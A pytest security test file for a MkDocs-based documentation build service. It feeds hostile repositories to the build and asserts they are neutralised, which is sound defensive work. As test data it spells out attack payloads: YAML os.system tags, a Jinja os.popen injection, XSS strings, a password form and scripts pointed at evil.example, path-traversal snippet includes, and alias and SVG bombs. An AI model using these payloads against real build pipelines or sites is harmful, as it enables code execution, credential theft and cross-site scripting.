"""Repositories that attack the docs build: what they try, and that nothing of it is there (backstage.md 3.2, 3.3).

Every attack leaves a marker, prints a secret, or shows a file from outside if it works with plain MkDocs.
"""

import os
import re
import time
from pathlib import Path

import pytest

from callboard.config.model import DocsConfig
from callboard.docs import confine
from callboard.docs.renderer import Renderer
from callboard.sources.checkout import RepositoryFiles
from callboard.sources.disk import DiskContent
from docs_kit import FolderCheckout, build, checkout_of, entity_of, manual_of, page_html, write_tree

pytestmark = pytest.mark.skipif(not confine.BASE <= confine.available(), reason="this machine cannot confine the worker")

SECRET = "s3cret-token-of-the-build"
OUTSIDE = "content-from-outside"
ACTIVE = re.compile(
    r"<(?:script|style|iframe|object|embed|base|meta|form|link|template|textarea|foreignobject)\b"
    r"|<[^>]*\s(?:on[a-z]+|style|srcdoc|formaction)=|(?:href|src)=\"\s*(?:javascript|vbscript|file):|href=\"data:",
    re.IGNORECASE,
)


class Watched(Renderer):
    """The docs worker, and the names of the files that it was given beside pages."""

    def __init__(self):
        super().__init__()
        self.given = set()

    def render(self, job, limits):
        self.given |= set(job["snippets"])
        return super().render(job, limits)


@pytest.fixture
def watched():
    with Watched() as renderer:
        yield renderer


@pytest.fixture
def attacked(tmp_path, monkeypatch, watched):
    """Build a repository of these files; everything that the site would hold, as one text, and what was reported.

    ``said`` of it are the messages. Each test says which gate it fails without: taken out by hand, the test was seen to
    fail. "MkDocs' own loader" is a build by ``mkdocs.config.load_config`` in the place of gate.read_settings.
    """
    monkeypatch.setenv("SECRET_TOKEN", SECRET)
    write_tree(tmp_path, {"outside.txt": OUTSIDE, "outside/docs/index.md": f"# {OUTSIDE}\n"})
    marker = tmp_path / "marker"

    def build_it(files, *, config=None):
        files = {name: content.replace("MARKER", str(marker)) if isinstance(content, str) else content for name, content in files.items()}
        files.setdefault("docs/index.md", "# Fine\n")
        root = write_tree(tmp_path / "repo", {n: c for n, c in files.items() if not isinstance(c, Path)})
        for name, target in files.items():
            if isinstance(target, Path):
                (root / name).symlink_to(target)
        good = write_tree(tmp_path / "good", {"docs/index.md": "# Unharmed\n"})
        manuals, report = build(
            [RepositoryFiles(checkout_of(root).repository, DiskContent(root)), checkout_of(good, "acme/good")],
            [entity_of(), entity_of("good", repo="acme/good")],
            tmp_path / "state",
            config=config,
            renderer=watched,
        )
        build_it.said = [problem.message for problem in report]
        published = "\n".join(
            part
            for manual in manuals.by_entity.values()
            for part in (
                manual.title,
                repr(manual.nav),
                repr(manual.redirects),
                *(f"{page.path} {page.title} {page.html} {page.headings} {page.description}" for page in manual.pages),
                *(f"{asset.path} {asset.file.read_bytes().decode(errors='replace')}" for asset in manual.assets),
            )
        )
        assert "Unharmed" in published
        assert not marker.exists()
        assert SECRET not in published and SECRET not in "\n".join(map(str, report))
        assert OUTSIDE not in published
        assert not ACTIVE.search(published)
        return published, [problem.code for problem in report], manuals

    return build_it


def test_a_tag_that_reads_the_environment_counts_as_not_set(attacked):
    """Fails without gate._Reader._get, which drops what has a tag."""
    published, codes, _ = attacked({"mkdocs.yml": "site_name: !ENV SECRET_TOKEN\nsite_description: !ENV [SECRET_TOKEN, x]\n"})

    assert "docs-config-ignored" in codes and "SECRET_TOKEN" not in published


def test_a_tag_that_calls_a_function_calls_nothing(attacked):
    """Fails where yaml.UnsafeLoader, or MkDocs' own loader, reads the file in the place of yamlsource."""
    attacked(
        {
            "mkdocs.yml": "site_name: !!python/object/apply:os.system ['touch MARKER']\n"
            "extra: !!python/object/apply:os.system ['touch MARKER']\n"
            "plugins:\n  - techdocs-core: !!python/object/apply:os.system ['touch MARKER']\n"
        }
    )


def test_a_tag_that_names_a_function_names_none_but_the_known(attacked):
    """Fails without the look into gate.CALLABLES in gate._Reader._function."""
    _, codes, _ = attacked(
        {
            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - toc:\n      slugify: !!python/name:os.system\n"
            "  - pymdownx.emoji:\n      emoji_generator: !!python/name:subprocess.check_output\n"
            "  - toc:\n      slugify: !!python/object/apply:os.system ['touch MARKER']\n",
            "docs/index.md": "# touch MARKER :smile:\n",
        }
    )

    assert codes.count("docs-plugin-ignored") == 3


def test_hooks_are_not_run(attacked):
    """Fails with MkDocs' own loader (they ran), and with hooks in gate._READ (nobody was told)."""
    _, codes, _ = attacked({"mkdocs.yml": "site_name: x\nhooks: [h.py]\n", "h.py": "open('MARKER', 'w')\n"})

    assert "docs-config-ignored" in codes


def test_inherited_settings_are_not_read(attacked):
    """Fails with MkDocs' own loader (they were read, and ran), and with INHERIT in gate._READ (nobody was told)."""
    _, codes, _ = attacked(
        {"mkdocs.yml": "INHERIT: ./base.txt\nsite_name: x\n", "base.txt": "hooks: [h.py]\n", "h.py": "open('MARKER', 'w')\n"}
    )

    assert "docs-config-ignored" in codes


def test_a_theme_of_the_repository_is_not_rendered(attacked):
    """Fails with MkDocs' own loader (it was rendered, and ran), and with theme in gate._READ (nobody was told)."""
    shell = "{{ config.__class__.__init__.__globals__['os'].popen('touch MARKER').read() }}"
    _, codes, _ = attacked({"mkdocs.yml": "site_name: x\ntheme:\n  name: material\n  custom_dir: o\n", "o/main.html": shell})

    assert "docs-config-ignored" in codes


@pytest.mark.parametrize("form", ["['evil:Extension']", "{'evil:Extension': {}}", "[{'evil:Extension': {}}]", "[evil]", "{evil: {}}"])
def test_a_markdown_extension_of_the_repository_is_not_imported(attacked, form):
    """Fails without the look into gate.EXTENSIONS in gate._Reader._extensions. MkDocs' own loader imports it in one of the forms."""
    code = "open('MARKER', 'w')\nclass Extension: pass\ndef makeExtension(**k): pass\n"
    _, codes, _ = attacked({"mkdocs.yml": f"site_name: x\nmarkdown_extensions: {form}\n", "evil.py": code})

    assert "docs-plugin-ignored" in codes


PLUGINS = (
    "exec macros gen-files mkdocstrings markdown-exec mkdocs-simple-hooks include-markdown git-revision-date-localized print-site with-pdf"
    " kroki privacy social awesome-pages literate-nav section-index rss blog offline optimize tags typeset"
).split()
"""What runs code of the repository, reads elsewhere, starts programs or browsers, or asks the network (backstage.md 3.3)."""


@pytest.mark.parametrize(
    "form",
    [str(PLUGINS), str({name: {"module_name": "main", "scripts": ["main.py"], "hooks": {"on_config": "main:x"}} for name in PLUGINS}), "[{group: {enabled: true, plugins: [exec, macros]}}]"],
    ids=["list", "mapping", "group"],
)
def test_a_plugin_of_the_repository_is_not_loaded(attacked, form):
    """Fails without _QUIET_PLUGINS in gate._Reader._plugin, the group without _plugins looking into it: nobody was told.

    No plugin at all is loaded: render.base_config has none, and gate.Settings no place for one.
    """
    _, codes, _ = attacked({"mkdocs.yml": f"site_name: x\nplugins: {form}\n", "main.py": "open('MARKER', 'w')\n"})

    assert codes.count("docs-plugin-ignored") == (2 if "group" in form else len(PLUGINS))


@pytest.mark.parametrize("form", ["- pymdownx.snippets: {base_path: ['/etc', '..'], restrict_base_path: false}", "pymdownx.snippets: {base_path: '..', restrict_base_path: false, url_download: true}"])
def test_snippets_are_taken_from_inside_the_repository_only(attacked, form):
    """Fails with these options in gate.EXTENSIONS: nobody is told of them, and the page cannot be rendered."""
    text = '# T\n\n--8<-- "../outside.txt"\n\n--8<-- "/etc/hostname"\n\n--8<-- "https://example.com/"\n\n--8<-- "inside.txt"\n'
    published, codes, _ = attacked(
        {"mkdocs.yml": f"site_name: x\nmarkdown_extensions:\n  {form}\n", "docs/index.md": text, "inside.txt": "taken-in\n"}
    )

    assert "taken-in" in published
    assert Path("/etc/hostname").read_text().strip() not in re.sub(r"href=\S+", "", published)
    assert "docs-plugin-ignored" in codes


@pytest.mark.parametrize("name", ["../repo-secret/x.txt", "../repo/../repo-secret/x.txt", "..%2frepo-secret/x.txt", "docs/../../repo-secret/x.txt", "./../repo-secret/x.txt:1:2"])
def test_a_folder_whose_name_begins_like_the_repository_s_is_outside(attacked, tmp_path, watched, name):
    """CVE-2026-46338: pymdownx compared the beginnings of paths. Fails where snippets.needed takes any name for one of the checkout's."""
    write_tree(tmp_path, {"repo-secret/x.txt": OUTSIDE})

    attacked({"docs/index.md": f'# T\n\n--8<-- "{name}"\n\n--8<--\n{name}\n--8<--\n'})

    assert watched.given == set()


@pytest.mark.parametrize("name", ["../service-secret/x.txt", "../inside.txt", "docs/../../inside.txt", "/inside.txt"])
def test_snippets_are_taken_from_the_folder_of_the_configuration_only(tmp_path, watched, name):
    """Fails without ``inside`` in snippets.needed: the worker was given what lies beside the folder of mkdocs.yml."""
    files = {"service/docs/index.md": f'# T\n\n--8<-- "{name}"\n', "service-secret/x.txt": OUTSIDE, "inside.txt": OUTSIDE}
    root = write_tree(tmp_path / "repo", files)

    manuals, _ = build([checkout_of(root)], [entity_of(path="service/catalog-info.yaml")], tmp_path / "state", renderer=watched)

    assert watched.given == set() and OUTSIDE not in page_html(next(iter(manuals.by_entity.values())))


def test_snippets_relative_to_the_configuration_do_not_lead_out(attacked, watched):
    """Fails without both looks of gate._Reader._option (at the options' names, and at tags): nobody was told. What is outside the worker was not given."""
    _, codes, _ = attacked(
        {
            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - pymdownx.snippets:\n      base_path: !relative $config_dir/..\n",
            "docs/index.md": '# T\n\n--8<-- "outside.txt"\n',
        }
    )

    assert sorted(codes) == ["docs-broken-link", "docs-plugin-ignored"] and watched.given == set()


def test_links_out_of_the_repository_are_not_followed(attacked, tmp_path):
    """Fails where sources.links.follow_links shows links that lead out and DiskContent opens them; each alone keeps them away."""
    published, _, _ = attacked(
        {
            "docs/index.md": '# T\n\n[a](leak.txt) ![b](leak.png) [c](leak.md)\n\n--8<-- "docs/leak.txt"\n',
            "docs/leak.txt": tmp_path / "outside.txt",
            "docs/leak.png": tmp_path / "outside.txt",
            "docs/leak.md": tmp_path / "outside" / "docs" / "index.md",
            "docs/folder": tmp_path / "outside",
            "docs/chain.txt": Path("leak.txt"),
            "docs/dangling.txt": Path("nowhere"),
        }
    )

    assert "leak/" not in published


@pytest.mark.parametrize("docs", ["../outside/docs", "/etc", "docs/../../outside/docs", "..", "linked"])
def test_a_docs_dir_outside_the_repository_is_refused(attacked, docs, tmp_path):
    """Fails without plan._inside; one that is a link where the scan of sources.disk follows links."""
    _, codes, manuals = attacked({"mkdocs.yml": f"site_name: x\ndocs_dir: {docs}\n", "linked": tmp_path / "outside" / "docs"})

    assert codes == ["docs-missing" if docs == "linked" else "docs-config"]
    assert len(manuals.by_entity) == 1


def test_an_included_configuration_passes_the_same_gate(attacked):
    """Fails where yaml.UnsafeLoader reads the file in the place of yamlsource, and without the notes of plan._Includes._one."""
    _, codes, _ = attacked(
        {
            "mkdocs.yml": "site_name: x\nnav:\n  - Home: index.md\n  - In: '!include inner/mkdocs.yml'\n",
            "inner/mkdocs.yml": "site_name: inner\nINHERIT: ./base.txt\nhooks: [h.py]\nextra: !!python/object/apply:os.system ['touch MARKER']\nmarkdown_extensions: ['evil:E']\n",
            "inner/h.py": "open('MARKER', 'w')\n",
            "inner/base.txt": "hooks: [h.py]\ndocs_dir: ../../outside/docs\n",
            "inner/docs/index.md": "# Inner\n",
        }
    )

    assert "docs-config-ignored" in codes and "docs-plugin-ignored" in codes


@pytest.mark.parametrize("path", ["../outside/mkdocs.yml", "/etc/mkdocs.yml", "inner/mkdocs.yml"])
def test_what_is_included_does_not_lead_out_of_the_repository(attacked, path, tmp_path):
    """Fails without plan._inside."""
    write_tree(tmp_path, {"outside/mkdocs.yml": "site_name: out\n"})
    _, codes, _ = attacked(
        {
            "mkdocs.yml": f"site_name: x\nnav:\n  - Home: index.md\n  - In: '!include {path}'\n",
            "inner/mkdocs.yml": "site_name: inner\ndocs_dir: ../../outside/docs\n",
        }
    )

    assert codes == ["docs-config"] and attacked.said[0].endswith("leads out of the repository")


@pytest.mark.parametrize("name", ["../../../etc", "..", "/abs", "a/../../../b", "."])
def test_an_included_site_name_is_no_path_that_leads_out(attacked, name):
    """Fails without the look at the alias in plan._Includes._one (nobody was told), and without it and plan.is_place (it led out)."""
    _, codes, manuals = attacked(
        {
            "mkdocs.yml": "site_name: x\nnav:\n  - Home: index.md\n  - In: '!include inner/mkdocs.yml'\n",
            "inner/mkdocs.yml": f"site_name: {name}\n",
            "inner/docs/index.md": "# Inner\n",
        }
    )

    paths = {page.path for manual in manuals.by_entity.values() for page in manual.pages}
    assert (codes, paths) == (([], {"", "abs/"}) if name == "/abs" else (["docs-config"], {""}))


RAW = """# T {: onclick="alert(1)" style="position:fixed" }

<script>alert(1)</script>

<svg><script>alert(1)</script><style>*{display:none}</style></svg>

<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data="e.svg"></object> <base href="https://evil.example/">

<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](JaVaScRiPt:alert(1)) <a href="java&#10;script:alert(1)">d</a>

[e](vbscript:x) [f](file:///etc/passwd) ![g](javascript:alert(1)) ![h](data:image/svg+xml;base64,PHN2Zz4=)

text{: onmouseover=alert(1) style="background:url(https://evil.example)" }

<div style="position:fixed;inset:0" class="cb-dialog" id="cb-search">over the page</div>
"""


def test_html_that_runs_or_reaches_out_is_taken_out(attacked):
    """Fails without sanitize.clean; the ids and classes of the portal without _OWN_ID and _Writer._reserved of adopt."""
    published, codes, manuals = attacked({"docs/index.md": RAW})

    assert 'class="cb-dialog"' not in published and 'id="cb-' not in published
    assert "docs-sanitized" in codes and "rejected-link" in codes
    assert not re.search(r'(?:src|href)="(?!cb:|#|https://evil|$)', page_html(next(iter(manuals.by_entity.values()))))


def test_titles_and_names_are_text(tmp_path):
    """What is text here is escaped where it is shown: test_portal_attacked looks at the pages."""
    manual, _ = manual_of(
        tmp_path,
        {
            "mkdocs.yml": "site_name: '<script>alert(1)</script>'\nnav:\n  - '<img src=x onerror=alert(1)>': index.md\n",
            "docs/index.md": "---\ndescription: <img src=x onerror=alert(1)>\n---\n# T `<script>`\n",
        },
    )

    (page,) = manual.pages
    assert (manual.title, page.title) == ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
    assert page.headings[0].text == "T <script>" and "<script" not in page.html


def test_nav_leads_to_no_code(attacked):
    """Fails without safe_url in adopt._nav_items, and in adopt._order (nobody was told)."""
    published, codes, _ = attacked(
        {"mkdocs.yml": "site_name: x\nnav:\n  - Home: index.md\n  - Bad: 'javascript:alert(1)'\n  - Data: 'data:text/html,x'\n  - Good: https://example.com/\n"}
    )

    assert "javascript" not in published and "data:text" not in published and "https://example.com/" in published
    assert codes.count("rejected-link") == 2


def test_pages_of_html_and_code_are_not_published(attacked):
    """Fails without links.is_published."""
    files = {name: "alert(1)" for name in ("docs/evil.html", "docs/a.htm", "docs/a.xhtml", "docs/sw.js", "docs/x.svgz", "docs/a.xml", "docs/a.css")}
    links = " ".join(f"[x]({Path(name).name}) ![y]({Path(name).name})" for name in files)
    _, _, manuals = attacked({**files, "docs/index.md": f"# T\n\n{links}\n"})

    assert [asset.path for manual in manuals.by_entity.values() for asset in manual.assets] == []


@pytest.mark.parametrize("name", ["a.drawio", "a.yaml", "a.toml", "a.puml", "a.log", "a.avif", "a.png", "a.txt"])
def test_no_download_is_run_where_a_server_does_not_know_its_type(attacked, name):
    """Fails without sanitize.taken_for_page: told no type, a browser looks how the file begins."""
    files = {f"docs/{name}": "<script>alert(1)</script>", f"docs/x{name}": '<?xml version="1.0"?><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'}
    _, codes, manuals = attacked({**files, "docs/index.md": f"# T\n\n[a]({name}) ![a]({name}) [b](x{name})\n"})

    assert codes.count("docs-file-skipped") == 2 and not any(manual.assets for manual in manuals.by_entity.values())


def test_an_svg_of_the_repository_is_cleaned_before_it_is_published(attacked):
    """Fails without sanitize.svg_file in docs.build._published."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="1"/></svg>'
    published, _, _ = attacked({"docs/e.svg": svg, "docs/index.md": "# T\n\n![x](e.svg)\n"})

    assert 'rect width="1"' in published and "alert" not in published


def test_a_drawing_whose_parts_name_each_other_without_end_stops_no_browser(attacked):
    """Fails without MOST_DRAWN in sanitize.svg_file (files), and without adopt._without_endless_drawings (in a page)."""

    def bomb(reference):
        parts = "".join(f'<g id="g{n}">{reference.format(n - 1) * 10}</g>' for n in range(1, 12))
        return f'<svg xmlns="http://www.w3.org/2000/svg"><rect id="g0" width="1" height="1"/>{parts}</svg>'

    small = '<svg xmlns="http://www.w3.org/2000/svg"><g id="dot"><rect width="7"/></g><use href="#dot"/><use href="#dot"/></svg>'
    round_about = '<svg xmlns="http://www.w3.org/2000/svg"><g id="round"><use href="#round"/></g></svg>'
    drawings = {"a.svg": bomb('<use href="#g{}"/>'), "b.svg": bomb('<rect fill="url(#g{})"/>'), "ok.svg": small, "round.svg": round_about}
    files = {f"docs/{name}": text for name, text in drawings.items()} | {f"docs/in-{name}.md": f"# D\n\n{text}\n\nbehind\n" for name, text in drawings.items()}
    _, codes, manuals = attacked({**files, "docs/index.md": "# T\n\n" + "".join(f"![x]({name})\n" for name in drawings)})

    (manual,) = (manual for manual in manuals.by_entity.values() if manual.repo == "acme/shop")
    assert [asset.path for asset in manual.assets] == ["ok.svg", "round.svg"]
    assert {page.path for page in manual.pages if "<svg" in page.html} == {"in-ok.svg/", "in-round.svg/"}
    assert sorted(codes) == ["docs-file-skipped"] * 2 + ["docs-sanitized"] * 2


def test_styles_and_scripts_of_the_settings_are_not_loaded(attacked):
    """Fails with the two in gate._READ: nobody was told. gate.Settings has no place for them."""
    published, codes, _ = attacked({"mkdocs.yml": "site_name: x\nextra_css: ['https://evil.example/x.css']\nextra_javascript: ['https://evil.example/x.js']\n"})

    assert "evil" not in published and codes.count("docs-config-ignored") == 2


def test_templates_and_files_of_the_settings_are_not_rendered(attacked):
    """Fails without links.is_published (they were published), and with extra_templates in gate._READ (nobody was told)."""
    files = {name: "{{ config.__class__ }} {% for x in [] %}" for name in ("t.html", "docs/t.xml", "docs/overrides/main.html", "docs/sitemap.xml")}
    published, codes, _ = attacked({**files, "mkdocs.yml": "site_name: x\nextra_templates: [t.html, t.xml]\nextra: {analytics: {provider: custom}}\n",
                                        "docs/index.md": "# T\n\n[a](t.xml) [b](overrides/main.html) [c](sitemap.xml) [d](../t.html)\n"})  # fmt: skip

    assert "config.__class__" not in published and "docs-config-ignored" in codes


def test_redirects_stay_in_the_manual(attacked):
    """Fails without the look at the target in gate._Reader._redirects, and without is_place in adopt._places."""
    published, codes, manuals = attacked(
        {
            "mkdocs.yml": "site_name: x\nplugins:\n  - techdocs-core\n  - redirects:\n      redirect_maps:\n        old.md: https://evil.example/\n"
            "        older.md: //evil.example/\n        moved.md: index.md#t\n        ../../out.md: index.md\n"
        }
    )

    assert "evil" not in published and codes.count("docs-config-ignored") == 2
    assert next(m for m in manuals.by_entity.values() if m.repo == "acme/shop").redirects == (("moved/", "#t"),)


def test_diagrams_start_no_program_and_read_no_file(attacked, tmp_path, monkeypatch):
    """Fails without render._STAND_INS, and then, without seccomp, the program was run."""
    for name in ("plantuml", "dot", "neato"):
        program = tmp_path / "bin" / name
        write_tree(tmp_path, {f"bin/{name}": f"#!/bin/sh\ntouch {tmp_path / 'marker'}\n"})
        program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    published, _, _ = attacked(
        {
            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - plantuml_markdown:\n      plantuml_cmd: touch MARKER\n      server: http://127.0.0.1:9/\n      base_dir: /etc\n",
            "docs/index.md": "# T\n\n```plantuml source=\"hostname\"\n!include /etc/hostname\n```\n\n::uml::\nA -> B\n::end-uml::\n\n"
            "{% dot a.svg\ndigraph { a -> b }\n%}\n\n```graphviz dot b.png\ndigraph { c -> d }\n```\n",
        }
    )

    assert "!include /etc/hostname" in published and "A -&gt; B" in published and "a -&gt; b" in published and "c -&gt; d" in published


def test_a_configuration_that_multiplies_is_one_problem(attacked):
    """Fails without yamlsource.MAX_ALIASES and MAX_NODES; each alone ends it."""
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"] + [f"{n}: &{n} [{', '.join([f'*{p}'] * 10)}]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)]
    _, codes, _ = attacked({"mkdocs.yml": "site_name: x\n" + "\n".join(lines) + "\nextra: *i\n"})

    assert "docs-config" in codes


def test_front_matter_that_multiplies_or_calls_is_harmless(attacked):
    """Fails without yamlsource.MAX_ALIASES and MAX_NODES, and where yaml.UnsafeLoader reads it in the place of yamlsource."""
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"] + [f"{n}: &{n} [{', '.join([f'*{p}'] * 10)}]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)]
    _, codes, _ = attacked(
        {
            "docs/bomb.md": "---\n" + "\n".join(lines) + "\ndescription: *i\n---\n# Bomb\n",
            "docs/call.md": "---\ntitle: !!python/object/apply:os.system ['touch MARKER']\n---\n# Call\n",
        }
    )

    assert codes == ["docs-front-matter"]


def test_hidden_files_are_not_published_by_a_negation(attacked):
    """Fails without plan.is_place, which knows no hidden name."""
    published, _, _ = attacked(
        {
            "mkdocs.yml": "site_name: x\nexclude_docs: |\n  !.env\n  !.secret.md\n",
            "docs/.env": f"TOKEN={OUTSIDE}",
            "docs/.secret.md": f"# {OUTSIDE}\n",
            "docs/.git-credentials.txt": OUTSIDE,
            "docs/index.md": "# T\n\n[a](.env) [b](.secret.md) ![c](.git-credentials.txt)\n",
        }
    )

    assert "TOKEN" not in published


def test_both_names_of_the_configuration_mean_one_choice(attacked):
    """Fails with plan.CONFIG_NAMES the other way round."""
    published, codes, _ = attacked({"mkdocs.yaml": "site_name: from-yaml\n", "mkdocs.yml": "site_name: from-yml\nhooks: [h.py]\n"})

    assert "from-yaml" in published and "from-yml" not in published and codes == ["docs-config-ignored"]


def test_links_built_from_settings_run_no_code(attacked):
    """No gate can be taken out: gate.Settings has no place for them, as test_a_usual_file_passes_whole says of all that passes."""
    published, _, _ = attacked(
        {"mkdocs.yml": "site_name: x\nrepo_url: 'javascript:alert(1)'\nedit_uri_template: 'javascript:alert({path})'\nsite_url: 'javascript:alert(1)'\n"}
    )

    assert "javascript" not in published


@pytest.mark.parametrize("name", ["CNAME", "404.html", "sw.js", "robots.txt", ".well-known/security.txt", "index.html", ".nojekyll"])
def test_files_of_the_site_itself_are_not_overwritten(attacked, name):
    """Fails without links.is_published for pages and scripts; a manual has a folder of its own, by plan.is_place."""
    _, _, manuals = attacked({f"docs/{name}": "evil", "docs/index.md": f"# T\n\n[x]({name})\n"})

    for manual in manuals.by_entity.values():
        for path in [*(page.path for page in manual.pages), *(asset.path for asset in manual.assets)]:
            assert not path.startswith(("/", "../")) and ".." not in path.split("/")
            assert not path.endswith((".html", ".js"))


def test_names_that_only_differ_in_case_are_one_problem(attacked):
    """Fails without casefold in plan.Plan._places, and in adopt._without_conflicts."""
    _, codes, manuals = attacked(
        {"docs/Guide.md": "# A\n", "docs/guide.md": "# B\n", "docs/P.png": b"1", "docs/p.png": b"2", "docs/index.md": "# T\n\n![](P.png) ![](p.png)\n"}
    )

    paths = [path.casefold() for m in manuals.by_entity.values() if m.repo == "acme/shop" for path in [p.path for p in m.pages] + [a.path for a in m.assets]]
    assert len(paths) == len(set(paths)) and codes.count("path-conflict") == 2


def test_odd_names_do_not_reach_the_site(attacked):
    """Fails without plan._ODD_NAME and the lengths in plan.is_place, and without the notes of _Planner.plan (nobody was told)."""
    long = "/".join(["d" * 150] * 7)  # 1,056 bytes
    _, codes, manuals = attacked({"docs/a\\b.md": "# A\n", "docs/\u202egnp.md": "# B\n", f"docs/{long}.md": "# C\n", f"docs/{'l' * 210}.md": "# D\n", "docs/per%2fcent.md": "# E\n"})

    paths = {page.path for manual in manuals.by_entity.values() for page in manual.pages}
    assert paths == {"", "per%2fcent/"} and codes == ["docs-file-skipped"] * 4


def test_a_folder_of_a_hundred_thousand_files_is_one_problem(tmp_path):
    """Fails without plan.MAX_PAGES."""

    class Huge(FolderCheckout):
        _paths = (["catalog-info.yaml", *(f"docs/{n}.md" for n in range(100_000))], [])

        def tree_id(self, path=""):
            return path

    root = write_tree(tmp_path / "repo", {"docs/index.md": "# A\n"})
    manuals, report = build([Huge(root, checkout_of(root).repository)], [entity_of()], tmp_path / "state")

    assert manuals.by_entity == {} and [problem.code for problem in report] == ["docs-failed"]


SLOW = DocsConfig(timeout=6, memory=256, max_output=5)


def test_a_page_without_end_ends_in_time_and_spares_the_others(attacked):
    """Fails without render._bounded, which ends a page; the worker's own time would end the manual."""
    started = time.monotonic()
    published, _, _ = attacked({"docs/endless.md": "[" * 60_000 + "a](" * 60_000 + "\n", "docs/other.md": "# Other page\n"}, config=SLOW)

    assert time.monotonic() - started < 25
    assert "Other page" in published


def test_deep_nesting_spares_the_others(attacked):
    """Fails where render.render catches PageTimeoutError only: the error of one page ended the others."""
    published, codes, _ = attacked(
        {
            "docs/deep.md": "> " * 3000 + "x\n",
            "docs/lists.md": "".join("  " * n + "- x\n" for n in range(250)),  # Python-Markdown says RecursionError
            "docs/html.md": "<div>" * 5000 + "\n",
            "docs/section.md": "<![odd[x]]>\n",  # Python's own reader of HTML says AssertionError
            "docs/other.md": "# Other page\n",
        },
        config=SLOW,
    )

    assert "Other page" in published and codes.count("docs-failed") == 2


def test_a_manual_that_takes_all_memory_spares_the_others(attacked):
    """Fails without RLIMIT_AS in confine.limit_resources."""
    _, codes, _ = attacked({"docs/blocks.md": "ab\n\n" * 1_200_000}, config=DocsConfig(timeout=20, memory=64, max_output=5))

    assert "docs-failed" in codes and "memory" in "".join(attacked.said).lower()


def test_a_huge_line_is_one_problem(attacked):
    """Fails without plan.TEXT_LIMIT."""
    _, codes, _ = attacked({"docs/huge.md": "x" * (6 << 20)}, config=SLOW)

    assert "file-too-large" in codes


def test_a_page_that_is_not_utf8_is_one_problem(tmp_path):
    """Fails where plan.read_text puts something in the place of what is not UTF-8."""
    manual, report = manual_of(tmp_path, {"docs/index.md": "# Fine\n", "docs/latin.md": b"caf\xe9\n"})

    assert [page.path for page in manual.pages] == [""]
    assert [(problem.code, str(problem.location)) for problem in report] == [("file-not-utf8", "acme/shop/docs/latin.md")]
